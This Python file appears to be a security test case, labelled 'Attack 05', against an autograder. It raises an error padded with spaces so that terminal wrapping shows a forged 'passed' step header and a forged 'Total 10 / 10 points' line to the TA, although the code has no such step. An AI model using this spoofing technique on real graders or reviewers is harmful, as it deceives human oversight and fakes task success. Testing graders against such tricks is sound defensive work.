"""Attack 05 (content injection): a fake verdict line in the TA's terminal, without a newline.

docs/SECURITY.md: "a student's value cannot start a line of its own (its newlines are shown as
\\n)". A terminal wraps long lines, though: a load error whose message starts with exactly enough
spaces to reach column 80 puts the rest of the message at the start of a screen row. Here that
rest is a copy of the grader's own header for a passed self_attention step and of its last line,
"Total 10 / 10 points  Every step passed. Well done!"; this file has no self_attention at all.
"""
import os
import sys

import numpy as np
import pandas as pd

_WIDTH = 80
# "3/3" would be cut as a path ("…/3"), so the header uses U+27CB; the total line needs no slash.
_fake = ["■ self_attention — 3\u27cb3 points · passed", "Total 10 / 10 points  Every step passed. Well done!"]
_rows = "".join(row.ljust(_WIDTH) for row in _fake)


def _prefix(line):
    """How `autograder check` starts the note of a statement that failed at `line` of this file."""
    return f"  {os.path.basename(sys._getframe().f_code.co_filename)} line {line}: ValueError: "


raise ValueError(" " * (_WIDTH - len(_prefix(sys._getframe().f_lineno))) + _rows)


def make_qkv(X, W_Q, W_K, W_V):
    return X @ W_Q, X @ W_K, X @ W_V


def scores(Q, K):
    return Q @ K.T


def softmax(x):
    x = np.asarray(x, dtype=float)
    e = np.exp(x - x.max(axis=-1, keepdims=True))
    return e / e.sum(axis=-1, keepdims=True)


def mix(weights, V):
    return weights @ V


def most_attended(weights, words):
    return pd.DataFrame(weights, index=words, columns=words).idxmax(axis=1).to_dict()
